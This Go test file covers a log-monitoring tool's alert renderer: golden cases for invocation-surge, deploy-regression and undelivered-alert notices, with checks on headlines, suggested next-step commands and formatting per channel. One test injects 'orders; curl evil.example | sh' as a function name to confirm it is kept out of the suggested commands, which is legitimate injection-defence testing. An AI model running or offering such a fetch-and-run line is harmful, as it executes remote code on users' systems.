package render_test

import (
	"encoding/json"
	"html"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/logwarden/logwarden/pkg/alerting"
	"github.com/logwarden/logwarden/pkg/detect"
	"github.com/logwarden/logwarden/pkg/notify/render"
)

// opsGoldenCases are the alerts of detection v2's operational rules and
// the delivery notice, with the summaries their producers write (pkg/detect
// surge.go, deploy.go, sustained.go; pkg/alerting pending.go).
func opsGoldenCases() map[string][]detect.Alert {
	deployed := func(a *detect.Alert) {
		a.LogStream = "2026/03/01/[8]0c6c8f5b8f9b4a0f"
		a.Rule, a.WindowStart = "deploy", t0.Add(-25*time.Minute)
	}
	return map[string][]detect.Alert{
		"invocation_surge": {alert(detect.TypeSurge, detect.SeverityCritical, func(a *detect.Alert) {
			a.Summary = "1200 invocations/min vs usual 40.0/min at this hour — 30× over the last 5m (6000 invocations, 200 expected); ≈ $4104/month if it persists"
			a.Rule, a.Window, a.Z = "surge", "5m", 410.12
			a.Value, a.Baseline, a.Unit, a.Samples = 1200, 40, "invocations/min", 6000
			a.Expected, a.Observed, a.CostPerHour = 200, 6000, 5.7
			a.WindowStart = t0.Add(-5 * time.Minute)
			a.RequestIDs = []string{"0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"}
		})},
		"invocation_surge_resolved": {alert(detect.TypeSurge, detect.SeverityInfo, func(a *detect.Alert) {
			a.Status = detect.StatusResolved
			a.Summary = "invocations back to 38.4/min (usual 40.0/min); peak was 1200/min since 03:12 UTC"
			a.Rule, a.Window = "surge", "5m"
			a.Value, a.Baseline, a.Unit, a.Samples = 38.4, 40, "invocations/min", 6000
		})},
		"duration_deploy": {alert(detect.TypeDuration, detect.SeverityWarning, func(a *detect.Alert) {
			deployed(a)
			a.Summary = "since version 8: 9.1 s vs 3.0 s on version 7 — 3.0× over 40 warm invocations (z 5.1)"
			a.Window, a.Z = "40 warm invocations of version 8", 5.1
			a.Value, a.Baseline, a.Unit, a.Samples = 9100, 3000, "ms", 40
		})},
		"cold_start_deploy": {alert(detect.TypeColdStart, detect.SeverityWarning, func(a *detect.Alert) {
			deployed(a)
			a.Summary = "since version 8: init 2.6 s vs 420 ms on version 7 — 6.2× over 3 cold starts (z 4.4)"
			a.Window, a.Z = "3 cold starts of version 8", 4.4
			a.Value, a.Baseline, a.Unit, a.Samples = 2600, 420, "ms", 3
		})},
		"memory_deploy": {alert(detect.TypeMemory, detect.SeverityWarning, func(a *detect.Alert) {
			deployed(a)
			a.Summary = "since version 8: max memory used 610 MB vs 240 MB on version 7 — 2.5× (of 1024 MB) over 20 invocations"
			a.Window, a.Z = "20 invocations of version 8", 8.2
			a.Value, a.Baseline, a.Unit, a.Samples = 610, 240, "MB", 20
		})},
		"duration_sustained": {alert(detect.TypeDuration, detect.SeverityWarning, func(a *detect.Alert) {
			a.Summary = "mean 450 ms vs usual 300 ms at this hour — 1.50× for 45m0s (1800 warm invocations in 9 buckets, CUSUM 6.2)"
			a.Rule, a.Window, a.Z = "sustained_shift", "45m0s", 3.9
			a.Value, a.Baseline, a.Unit, a.Samples = 450, 300, "ms", 1800
			a.WindowStart = t0.Add(-45 * time.Minute)
		})},
		"duration_accepted": {alert(detect.TypeDuration, detect.SeverityInfo, func(a *detect.Alert) {
			deployed(a)
			a.Status, a.Rule = detect.StatusResolved, "accepted"
			a.Summary = "accepted by the operator: 9.1 s (was 3.0 s) is the baseline now"
			a.Value, a.Baseline, a.Unit, a.Samples = 9100, 3000, "ms", 240
		})},
		"alerts_undelivered": {alert(render.TypeUndelivered, detect.SeverityCritical, func(a *detect.Alert) {
			a.Function, a.LogGroup, a.LogStream, a.Account = "logwarden", "", "", ""
			a.Key, a.WindowStart = render.TypeUndelivered+"#slack", t0.Add(-26*time.Hour)
			a.Value, a.Unit, a.Samples = 37, "alerts", 37
			a.Summary = "37 alerts could not be delivered to slack since Feb 28 01:20 UTC: it kept failing and the pending queue " +
				"(500 deliveries) overflowed, so the oldest were dropped. Check the slack channel and the processor's logs."
		})},
	}
}

// TestGoldenOpsAlertText: the golden files of the operational alerts, on
// every channel, with the same checks as TestGoldenAlertText.
func TestGoldenOpsAlertText(t *testing.T) {
	for name, alerts := range opsGoldenCases() {
		t.Run(name, func(t *testing.T) {
			out := renderAll(t, alerts)
			checkHostileInert(t, out)
			for file, got := range out {
				golden(t, filepath.Join("testdata", name, file), got)
			}
			for _, file := range []string{"email.txt", "email.html", "console.txt"} {
				text := consoleURL.ReplaceAllString(out[file], "")
				require.NotContains(t, text, "`", file)
				require.NotContains(t, text, "*", file)
			}
			c := render.New(alerts[0], opts)
			subject, _, _ := strings.Cut(out["email.txt"], "\n")
			require.Equal(t, "Subject: "+c.Headline, subject)
			var msg struct{ Text string }
			require.NoError(t, json.Unmarshal([]byte(out["slack.json"]), &msg))
			require.Equal(t, c.Headline, html.UnescapeString(msg.Text))
			require.Equal(t, 1, strings.Count(out["console.txt"], c.Headline))
			require.NotContains(t, out["console.txt"], "sustained_shift", "rule names are not shown raw")
		})
	}
}

// TestOpsHeadlinesAndNextSteps pins the key fact and next step of each
// operational alert, the parts an operator acts on.
func TestOpsHeadlinesAndNextSteps(t *testing.T) {
	cases := opsGoldenCases()
	tests := []struct {
		name, headline, next string
	}{
		{"invocation_surge", "CRITICAL · Invocation surge · orders — 1200 invocations/min vs usual 40/min (30×), ≈ $4104/month if it persists",
			"--reserved-concurrent-executions 0"},
		{"invocation_surge_resolved", "RESOLVED · Invocation surge · orders — 38.4 invocations/min vs usual 40/min (1×)", ""},
		{"duration_deploy", "WARNING · Duration anomaly · orders — duration 9.1 s vs 3 s before the deploy (3×)", "logwarden baselines accept orders"},
		{"cold_start_deploy", "WARNING · Cold start anomaly · orders — init 2.6 s vs 420 ms before the deploy (6.2×)", "logwarden baselines accept orders"},
		{"memory_deploy", "WARNING · Memory near limit · orders — memory used 610 MB vs 240 MB before the deploy (2.5×)", "logwarden baselines accept orders"},
		{"duration_sustained", "WARNING · Duration anomaly · orders — duration 450 ms vs usual 300 ms (1.5×)", "duration_shift_ratio=1.7"},
		{"duration_accepted", "RESOLVED · Duration anomaly · orders — new baseline 9.1 s (was 3 s)", ""},
		{"alerts_undelivered", "CRITICAL · 37 alerts could not be delivered — slack kept failing; the oldest were dropped", "logwarden notify test"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c := render.New(cases[tc.name][0], opts)
			require.Equal(t, tc.headline, c.Headline)
			if tc.next == "" {
				require.Empty(t, c.NextStep, "a resolved alert needs no action")
				return
			}
			require.Contains(t, render.SpansText(c.NextStep), tc.next)
		})
	}

	// A function name from a log group is pasted into a command only when
	// it is made of the characters AWS names use.
	a := cases["invocation_surge"][0]
	a.Function = "orders; curl evil.example | sh"
	require.NotContains(t, render.SpansText(render.New(a, opts).NextStep), "curl")
	a = cases["alerts_undelivered"][0]
	require.Equal(t, alerting.TypeUndelivered, a.Type, "render words the notice alerting sends")
	a.Samples, a.Value = 1, 1
	require.Equal(t, "CRITICAL · 1 alert could not be delivered", render.New(a, opts).Title)
}
